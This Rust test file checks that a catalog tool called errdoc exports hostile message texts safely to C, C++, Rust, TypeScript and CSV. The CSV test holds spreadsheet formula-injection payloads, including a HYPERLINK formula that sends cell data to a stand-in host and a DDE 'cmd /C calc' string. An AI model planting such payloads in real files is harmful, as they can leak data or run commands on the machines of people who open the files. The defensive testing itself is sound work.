//! `errdoc export` on a hostile catalog (issue 14, "generated code that
//! stays safe"): texts that try to end a string literal or a comment
//! (`??/"` under trigraphs, `*/`, greedy `\x` escapes, U+0085, bidi
//! controls), names that Rust's CamelCase makes equal or a keyword, and CSV
//! cells that a spreadsheet would run as formulas.
//!
//! Each export is compiled in strict modes (C89 and C11 with trigraphs,
//! C++14, Rust with `-D warnings`, `tsc --strict`) and run: the program
//! prints every message it reads back, and each must be the catalog's.

// Helpers of tests: a failure should stop the test with its reason.
#![allow(clippy::unwrap_used, clippy::panic)]
#![allow(
    clippy::too_many_lines,
    reason = "a test is one scenario, read from top to bottom; cut into pieces it would hide the order of its steps"
)]

mod support;

use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use support::{errdoc, escaped, yaml_string};

/// One code of the hostile catalog: its number, name, message and title.
struct Hostile {
    code: i64,
    name: &'static str,
    message: Option<&'static str>,
    title: &'static str,
}

/// Texts that break out of literals or comments in at least one target.
const HOSTILE: &[Hostile] = &[
    Hostile {
        code: 1,
        name: "TRI_QUOTE",
        message: Some("a??/\"; int injected = 1; char *s = \"b"),
        title: "Trigraph ??/ then */ and /* inside",
    },
    Hostile {
        code: 2,
        name: "TRI_ALL",
        message: Some("??= ??( ??) ??< ??> ??! ??' ??- ???/ ?? ?"),
        title: "ends with a trigraph ??/",
    },
    Hostile {
        code: 3,
        name: "CONTROL_THEN_HEX",
        message: Some("a\u{1}bc\u{1f}de\tf\r\ng\u{7f}h\u{1b}[0m\u{0}0"),
        title: "control \u{1} then hex \u{7} ab",
    },
    Hostile {
        code: 4,
        name: "NEL_AND_BIDI",
        message: Some(
            "x\u{85}y\u{202e}z\u{2028}w\u{2029}v\u{feff}u\u{200b}t\u{2066}s\u{200f}r\u{e0041}q\u{9f}abc",
        ),
        title: "\u{202e}reversed\u{202c} nel\u{85}line\u{2028}sep\u{feff}",
    },
    Hostile {
        code: 5,
        name: "COMMENT_CLOSE",
        message: Some("*/ /* // \\ \\\\ \" ' ` ${x} \\u0041 \\x41 \\101 %s %n"),
        title: "*/ closes /* opens **/ and / * *",
    },
    Hostile {
        code: 6,
        name: "CJK",
        message: Some("连接超时 😀 é Ω"),
        title: "连接超时",
    },
    Hostile {
        code: 7,
        name: "BACKSLASH_END",
        message: Some("ends with a backslash \\"),
        title: "/ starts with a slash and ends with a star *",
    },
    Hostile {
        code: 8,
        name: "ERRDOC_CODES_H",
        message: Some("the name of the header's include guard"),
        title: "guard",
    },
    Hostile {
        code: 9,
        name: "NONE",
        message: None,
        title: "None as a variant",
    },
    Hostile {
        code: 10,
        name: "SOME",
        message: Some("Some"),
        title: "Some as a variant",
    },
    Hostile {
        code: 11,
        name: "NUL_INSIDE",
        message: Some("before\u{0}after"),
        title: "a NUL",
    },
];

/// A Fluent message whose value is exactly `text`: one string literal.
fn fluent_literal(text: &str) -> String {
    format!("{{\"{}\"}}", escaped(text, 6))
}

/// A project (made by `errdoc init`) whose catalog is `codes` in one module.
fn project_of(codes: &[Hostile]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    assert_eq!(errdoc(root, &["init"]).status, 0);
    let mut yaml =
        String::from("modules:\n  - id: hostile\n    page: errorcode-hostile\n    codes:");
    yaml.push_str(if codes.is_empty() { " []\n" } else { "\n" });
    let mut ftl = String::from("module-hostile = Hostile\n");
    for c in codes {
        let _ = write!(yaml, "      - code: {}\n        name: {}\n", c.code, c.name);
        if let Some(m) = c.message {
            let _ = writeln!(yaml, "        message: {}", yaml_string(m));
        }
        let _ = writeln!(ftl, "code-{} = {}", c.code, fluent_literal(c.title));
    }
    std::fs::write(root.join("catalog/codes.yaml"), yaml).unwrap();
    std::fs::write(root.join("locales/en/hostile.ftl"), ftl).unwrap();
    dir
}

/// The hostile project, checked clean, with its JSON export holding exactly
/// the messages above (so the YAML says what the test means).
fn hostile_project() -> tempfile::TempDir {
    let dir = project_of(HOSTILE);
    let check = errdoc(dir.path(), &["check"]);
    assert_eq!(check.status, 0, "{}", check.stderr);
    let json = export(dir.path(), "json", "codes.json");
    let value: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(json).unwrap()).unwrap();
    for (exported, expected) in value["codes"].as_array().unwrap().iter().zip(HOSTILE) {
        assert_eq!(exported["name"], expected.name);
        assert_eq!(exported["message"].as_str(), expected.message);
    }
    dir
}

/// `errdoc export --format FORMAT -o ROOT/NAME`; the path.
fn export(root: &Path, format: &str, name: &str) -> PathBuf {
    let path = root.join(name);
    let run = errdoc(
        root,
        &["export", "--format", format, "-o", path.to_str().unwrap()],
    );
    assert_eq!(run.status, 0, "{}", run.stderr);
    path
}

/// The UTF-8 bytes of `text` in lowercase hex, as the programs print them.
fn hex(text: &str) -> String {
    text.bytes().map(|b| format!("{b:02x}")).collect()
}

/// What a program that prints `NAME HEX` (or `NAME -`) per code must print:
/// for C, a message ends at its first NUL (C strings cannot hold one).
fn expected_lines(c_strings: bool) -> Vec<String> {
    HOSTILE
        .iter()
        .map(|c| match c.message {
            Some(m) => {
                let m = if c_strings {
                    m.split('\0').next().unwrap_or_default()
                } else {
                    m
                };
                format!("{} {}", c.name, hex(m))
            }
            None => format!("{} -", c.name),
        })
        .collect()
}

/// Compares a program's output with the catalog, message by message.
fn assert_reads_back(output: &str, c_strings: bool) {
    let lines: Vec<&str> = output.lines().collect();
    let expected = expected_lines(c_strings);
    assert_eq!(lines.len(), expected.len(), "{output}");
    for (line, want) in lines.iter().zip(&expected) {
        assert_eq!(line, want, "a message read back differs");
    }
}

/// Runs `command` to its end; panics with its output when it fails.
fn succeeds(command: &mut Command) -> String {
    let output = command.output().unwrap();
    assert!(
        output.status.success(),
        "{command:?}\n{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

/// A C (and C++) program that prints every message of the header.
fn c_main() -> String {
    let mut main = String::from(
        "#include <stdio.h>\n#include <string.h>\n#include \"errdoc_codes.h\"\n\n\
         static void show(const char *name, long code)\n{\n    const char *m = ERRDOC_message(code);\n    size_t i;\n\
         \x20   printf(\"%s \", name);\n    if (m == NULL) {\n        puts(\"-\");\n        return;\n    }\n\
         \x20   for (i = 0; m[i] != '\\0'; i++)\n        printf(\"%02x\", (unsigned)(unsigned char)m[i]);\n\
         \x20   putchar('\\n');\n}\n\nint main(void)\n{\n",
    );
    for c in HOSTILE {
        let _ = writeln!(main, "    show(\"{0}\", ERRDOC_{0});", c.name);
    }
    main.push_str("    return 0;\n}\n");
    main
}

/// The header compiled by `compiler` with `flags` and run: its output.
fn c_reads_back(compiler: &str, flags: &[&str], source_name: &str) -> String {
    let root = hostile_project();
    let dir = root.path();
    export(dir, "c", "errdoc_codes.h");
    let main = dir.join(source_name);
    std::fs::write(&main, c_main()).unwrap();
    let binary = dir.join("main.bin");
    succeeds(
        Command::new(compiler)
            .args(flags)
            .arg("-o")
            .arg(&binary)
            .arg(&main)
            .current_dir(dir),
    );
    succeeds(&mut Command::new(&binary))
}

#[test]
fn c89_pedantic_reads_every_message_back() {
    let out = c_reads_back(
        "gcc",
        &["-std=c89", "-pedantic", "-Wall", "-Wextra", "-Werror"],
        "main.c",
    );
    assert_reads_back(&out, true);
}

#[test]
fn c11_with_trigraphs_reads_every_message_back() {
    let out = c_reads_back(
        "gcc",
        &["-std=c11", "-trigraphs", "-Wall", "-Wextra", "-Werror"],
        "main.c",
    );
    assert_reads_back(&out, true);
}

#[test]
fn cpp14_reads_every_message_back() {
    let out = c_reads_back(
        "g++",
        &["-std=c++14", "-Wall", "-Wextra", "-Werror"],
        "main.cpp",
    );
    assert_reads_back(&out, true);
}

#[test]
fn rust_reads_every_message_back() {
    let root = hostile_project();
    let dir = root.path();
    export(dir, "rust", "codes.rs");
    let numbers: Vec<String> = HOSTILE.iter().map(|c| c.code.to_string()).collect();
    let main = format!(
        "mod codes;\nuse codes::ErrorCode;\n\n\
         fn hex(text: &str) -> String {{\n    text.bytes().map(|b| format!(\"{{b:02x}}\")).collect()\n}}\n\n\
         fn main() {{\n    for number in [{}] {{\n        let code = ErrorCode::from_code(number).expect(\"a code\");\n\
         \x20       assert_eq!(code.code(), number);\n        match code.message() {{\n\
         \x20           Some(m) => println!(\"{{}} {{}}\", code.name(), hex(m)),\n\
         \x20           None => println!(\"{{}} -\", code.name()),\n        }}\n    }}\n}}\n",
        numbers.join(", ")
    );
    std::fs::write(dir.join("main.rs"), main).unwrap();
    succeeds(
        Command::new("rustc")
            .args(["--edition", "2021", "-D", "warnings", "-o", "main.bin"])
            .arg("main.rs")
            .current_dir(dir),
    );
    let out = succeeds(&mut Command::new(dir.join("main.bin")));
    assert_reads_back(&out, false);
}

/// `tsc` from `target/tools` (where .ci/run installs it) or the PATH.
fn tsc() -> PathBuf {
    let local = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/tools/node_modules/.bin/tsc");
    if local.exists() {
        return local;
    }
    PathBuf::from("tsc")
}

/// `main` (TypeScript, beside the exported `codes.ts` in `dir`) checked
/// with `tsc --strict`, compiled and run by node: its output.
fn typescript_runs(dir: &Path, main: &str) -> String {
    std::fs::write(dir.join("main.ts"), main).unwrap();
    succeeds(
        Command::new(tsc())
            .args([
                "--strict", "--target", "es2020", "--module", "commonjs", "--outDir", "out",
                "main.ts", "codes.ts",
            ])
            .current_dir(dir),
    );
    succeeds(Command::new("node").arg("out/main.js").current_dir(dir))
}

#[test]
fn typescript_reads_every_message_back() {
    let root = hostile_project();
    let dir = root.path();
    export(dir, "typescript", "codes.ts");
    let names: Vec<String> = HOSTILE.iter().map(|c| format!("\"{}\"", c.name)).collect();
    let main = format!(
        "import {{ ErrorCode, ErrorCodeName, errorMessage }} from \"./codes\";\n\n\
         function hex(text: string): string {{\n  return Array.from(new TextEncoder().encode(text), (b) => b.toString(16).padStart(2, \"0\")).join(\"\");\n}}\n\n\
         const names: ErrorCodeName[] = [{}];\n\
         for (const name of names) {{\n  const m = errorMessage(ErrorCode[name]);\n  console.log(name + \" \" + (m === undefined ? \"-\" : hex(m)));\n}}\n",
        names.join(", ")
    );
    assert_reads_back(&typescript_runs(dir, &main), false);
}

#[test]
fn arkts_reads_every_message_back() {
    let root = hostile_project();
    let dir = root.path();
    export(dir, "arkts", "codes.ts");
    let numbers: Vec<String> = HOSTILE.iter().map(|c| c.code.to_string()).collect();
    let main = format!(
        "import {{ ErrorCode, errorCodeOf, errorMessage, errorName }} from \"./codes\";\n\n\
         function hex(text: string): string {{\n  return Array.from(new TextEncoder().encode(text), (b: number): string => b.toString(16).padStart(2, \"0\")).join(\"\");\n}}\n\n\
         const numbers: number[] = [{}];\n\
         for (const n of numbers) {{\n  const code: ErrorCode | undefined = errorCodeOf(n);\n  if (code === undefined) {{\n    throw new Error(\"no code \" + n);\n  }}\n  const m: string | undefined = errorMessage(code);\n  console.log(errorName(code) + \" \" + (m === undefined ? \"-\" : hex(m)));\n}}\n",
        numbers.join(", ")
    );
    assert_reads_back(&typescript_runs(dir, &main), false);
}

/// Characters that a reader cannot see or that end a line somewhere:
/// controls (but the line feeds between lines), U+0085, U+2028, U+2029,
/// bidi and zero-width formatting, U+FEFF, tag characters.
fn hidden(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
}

#[test]
fn generated_sources_hold_no_hidden_character_and_c_literals_are_ascii() {
    let root = hostile_project();
    let dir = root.path();
    for (format, name) in [
        ("rust", "codes.rs"),
        ("typescript", "codes.ts"),
        ("arkts", "codes.ets"),
        ("c", "codes.h"),
    ] {
        let text = std::fs::read_to_string(export(dir, format, name)).unwrap();
        if let Some(c) = text.chars().find(|c| hidden(*c)) {
            panic!("{format}: U+{:04X} is in the source:\n{text}", u32::from(c));
        }
        let comments = text.lines().map(str::trim_start);
        for comment in comments.filter(|l| l.starts_with("/**") || l.starts_with("///")) {
            let body = comment
                .strip_prefix("/**")
                .and_then(|b| b.strip_suffix("*/"))
                .or_else(|| comment.strip_prefix("///"))
                .unwrap_or_else(|| panic!("{format}: not a one-line comment: {comment}"));
            assert!(
                !body.contains("*/") && !body.contains("/*"),
                "{format}: {comment}"
            );
        }
    }
    let header = std::fs::read_to_string(dir.join("codes.h")).unwrap();
    for line in header.lines().filter(|l| l.contains("return \"")) {
        assert!(line.is_ascii(), "not ASCII: {line}");
        assert!(!line.contains("??"), "a trigraph can form: {line}");
    }
}

/// A catalog without codes: an enum without variants takes no `repr`
/// (rustc refuses one), and the C header still compiles in C89.
#[test]
fn a_catalog_without_codes_exports_rust_and_c_that_compile() {
    let root = project_of(&[]);
    let dir = root.path();
    export(dir, "rust", "codes.rs");
    std::fs::write(
        dir.join("main.rs"),
        "mod codes;\nfn main() {\n    let code = codes::ErrorCode::from_code(1);\n    println!(\"{:?}\", code.map(|c| (c.code(), c.message(), c.name())));\n}\n",
    )
    .unwrap();
    succeeds(
        Command::new("rustc")
            .args(["--edition", "2021", "-D", "warnings", "-o", "main.bin"])
            .arg("main.rs")
            .current_dir(dir),
    );
    assert_eq!(succeeds(&mut Command::new(dir.join("main.bin"))), "None\n");
    export(dir, "c", "errdoc_codes.h");
    std::fs::write(
        dir.join("main.c"),
        "#include \"errdoc_codes.h\"\nint main(void)\n{\n    return ERRDOC_message(1) != 0;\n}\n",
    )
    .unwrap();
    succeeds(
        Command::new("gcc")
            .args([
                "-std=c89",
                "-pedantic",
                "-Wall",
                "-Wextra",
                "-Werror",
                "-o",
                "c.bin",
                "main.c",
            ])
            .current_dir(dir),
    );
    succeeds(&mut Command::new(dir.join("c.bin")));
}

/// `check`'s stderr on a project of `codes`, which must fail.
fn check_fails(codes: &[Hostile]) -> String {
    check_fails_with(codes, "")
}

/// `check_fails`, with `head` before the catalog's modules.
fn check_fails_with(codes: &[Hostile], head: &str) -> String {
    let root = project_of(codes);
    let catalog = root.path().join("catalog/codes.yaml");
    let yaml = std::fs::read_to_string(&catalog).unwrap();
    std::fs::write(&catalog, format!("{head}{yaml}")).unwrap();
    let run = errdoc(root.path(), &["check"]);
    assert_eq!(run.status, 1, "{}{}", run.stdout, run.stderr);
    let export = errdoc(root.path(), &["export", "--format", "rust"]);
    assert_eq!(export.status, 1, "export refuses too: {}", export.stdout);
    assert_eq!(export.stdout, "");
    run.stderr
}

fn named(code: i64, name: &'static str) -> Hostile {
    Hostile {
        code,
        name,
        message: Some("m"),
        title: "t",
    }
}

#[test]
fn names_equal_in_rust_camel_case_are_located_at_the_second() {
    let stderr = check_fails(&[named(1, "A_B"), named(2, "OK"), named(3, "A__B")]);
    assert_eq!(
        stderr,
        "catalog/codes.yaml:12:15: error[E0247]: name `A__B` of code 3 is `AB` in Rust, as is name `A_B` of code 1 — the Rust export names each code in CamelCase, without `_`: give one of them another name\n\
         \x20  |\n\
         12 |         name: A__B\n\
         \x20  |               ^^^^\n\
         catalog/codes.yaml:6:15: note: first used here\n\
         \x20 |\n\
         6 |         name: A_B\n\
         \x20 |               ---\n\
         error: check failed with 1 error and 0 warnings\n"
    );
}

#[test]
fn a_name_that_is_self_in_rust_is_located() {
    let stderr = check_fails(&[named(1, "OK"), named(2, "SELF")]);
    assert_eq!(
        stderr,
        "catalog/codes.yaml:9:15: error[E0246]: name `SELF` of code 2 is `Self` in Rust, a keyword — the Rust export names each code in CamelCase, and no enum variant can be `Self`: give the code another name\n\
         \x20 |\n\
         9 |         name: SELF\n\
         \x20 |               ^^^^\n\
         error: check failed with 1 error and 0 warnings\n"
    );
}

#[test]
fn a_name_that_is_a_c_library_macro_is_located() {
    // With the default prefix the macro is `ERRDOC_EOF`: no clash.
    let prefixed = project_of(&[named(1, "EOF")]);
    assert_eq!(errdoc(prefixed.path(), &["check"]).status, 0);
    // The prefix makes the clash: `MAX` is `FLT_MAX`.
    let flt = check_fails_with(&[named(1, "MAX")], "site:\n  export_prefix: \"FLT_\"\n");
    assert!(
        flt.contains("error[E0248]: name `MAX` of code 1 is `FLT_MAX` in the C export, a macro of the C library (<float.h>)"),
        "{flt}"
    );
    // `--prefix` is held to the same rule.
    let run = errdoc(
        prefixed.path(),
        &["export", "--format", "c", "--prefix", ""],
    );
    assert_eq!(run.status, 1);
    assert_eq!(
        run.stderr,
        "error: with no prefix, the C export would define `EOF`, a macro of the C library (<stdio.h>): choose another prefix\n"
    );
    let stderr = check_fails_with(&[named(1, "EOF")], "site:\n  export_prefix: \"\"\n");
    assert_eq!(
        stderr,
        "catalog/codes.yaml:8:15: error[E0248]: name `EOF` of code 1 is `EOF` in the C export, a macro of the C library (<stdio.h>) — the C export defines each name as a macro, so a program that includes <stdio.h> would get two: give the code another name, or set `site.export_prefix` (such as `APP_`), which the C export puts before every name\n\
         \x20 |\n\
         8 |         name: EOF\n\
         \x20 |               ^^^\n\
         error: check failed with 1 error and 0 warnings\n"
    );
}

/// A family whose pattern makes names that CamelCase makes equal to
/// explicit ones: one error at the pattern, counting the rest.
#[test]
fn a_family_pattern_equal_in_camel_case_is_reported_once() {
    let root = project_of(&[]);
    std::fs::write(
        root.path().join("catalog/codes.yaml"),
        "tables:\n  - id: errno\n    entries:\n      - { value: 4, name: EINTR, message: \"Interrupted\" }\n      - { value: 11, name: EAGAIN, message: \"Try again\" }\n\
         modules:\n  - id: hostile\n    page: errorcode-hostile\n    families:\n      - { id: sock, base: 100, table: errno, name: \"SOCK__{name}\" }\n    codes:\n      - { code: 1, name: SOCK_EINTR }\n      - { code: 2, name: SOCK_EAGAIN }\n",
    )
    .unwrap();
    std::fs::write(
        root.path().join("locales/en/hostile.ftl"),
        "module-hostile = Hostile\nfamily-sock = Sock\ncode-1 = One\ncode-2 = Two\n",
    )
    .unwrap();
    let run = errdoc(root.path(), &["check"]);
    assert_eq!(run.status, 1, "{}", run.stderr);
    let errors: Vec<&str> = run
        .stderr
        .lines()
        .filter(|l| l.contains("error:") || l.contains("error["))
        .collect();
    assert_eq!(
        errors,
        [
            "catalog/codes.yaml:10:52: error[E0247]: name `SOCK__EINTR` of code 104 is `SockEintr` in Rust, as is name `SOCK_EINTR` of code 1, and 1 more name of this pattern — the Rust export names each code in CamelCase, without `_`: give one of them another name",
            "error: check failed with 1 error and 0 warnings",
        ],
        "{}",
        run.stderr
    );
}

/// The first characters that make a spreadsheet read a cell as a formula
/// (OWASP, CSV injection).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

#[test]
fn csv_cells_cannot_start_a_formula_and_numbers_stay_numbers() {
    let codes = [
        Hostile {
            code: -1,
            name: "MINUS_ONE",
            message: Some("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"),
            title: "=1+2",
        },
        Hostile {
            code: 2,
            name: "PLUS",
            message: Some("+SUM(A1:A9)"),
            title: "@SUM(1)",
        },
        Hostile {
            code: 3,
            name: "MINUS",
            message: Some("-2+3+cmd|' /C calc'!A0"),
            title: "-1 + 2",
        },
        Hostile {
            code: 4,
            name: "AT",
            message: Some("@cmd"),
            title: "\tTab",
        },
        Hostile {
            code: 5,
            name: "TAB",
            message: Some("\t=1"),
            title: "plain",
        },
        Hostile {
            code: 6,
            name: "CR",
            message: Some("\r=1"),
            title: "'quoted",
        },
        Hostile {
            code: 7,
            name: "NUMBER",
            message: Some("-42"),
            title: "ok, \"quoted\"",
        },
    ];
    let root = project_of(&codes);
    let check = errdoc(root.path(), &["check"]);
    assert_eq!(check.status, 0, "{}", check.stderr);
    let csv = std::fs::read_to_string(export(root.path(), "csv", "codes.csv")).unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), codes.len());
    for (row, code) in rows.iter().zip(&codes) {
        // A plain number is no formula: codes stay numbers (`-1`).
        assert_eq!(&row[column("code")], code.code.to_string());
        for (i, cell) in row.iter().enumerate() {
            if headers[i] == *"code" {
                continue;
            }
            let is_number = cell
                .strip_prefix('-')
                .unwrap_or(cell)
                .bytes()
                .all(|b| b.is_ascii_digit())
                && !cell.trim_start_matches('-').is_empty();
            assert!(
                is_number || !cell.starts_with(FORMULA_START),
                "{}: {cell:?}",
                &headers[i]
            );
        }
        let read_back = |cell: &str| -> String {
            match cell.strip_prefix('\'') {
                Some(rest) if rest.starts_with(FORMULA_START) => rest.to_string(),
                _ => cell.to_string(),
            }
        };
        let message = &row[column("message")];
        assert_eq!(read_back(message), code.message.unwrap());
        if code.message.unwrap() == "-42" {
            assert_eq!(message, "-42", "a number stays a number");
        }
        assert_eq!(read_back(&row[column("title_en")]), code.title);
    }
}
